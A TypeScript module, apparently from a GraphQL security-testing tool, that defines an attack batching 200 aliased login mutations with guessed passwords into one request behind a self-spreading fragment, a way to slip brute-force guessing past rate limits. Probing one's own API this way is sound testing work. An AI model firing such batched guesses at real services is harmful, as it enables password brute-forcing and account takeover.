import type { Attack } from '../attack';
import { sendOperation } from '../send-operation';

const GUESSES = Array.from({ length: 200 }, (_, at) => `g${at}: logIn(login: "nobody", password: "${at}") { __typename }`).join(' ');

/** Two hundred guesses in one request, behind a fragment. */
export const logInsInAFragment: Attack = (address) =>
  sendOperation(address, `mutation { ...F ... on Mutation { ...F } } fragment F on Mutation { ${GUESSES} }`);
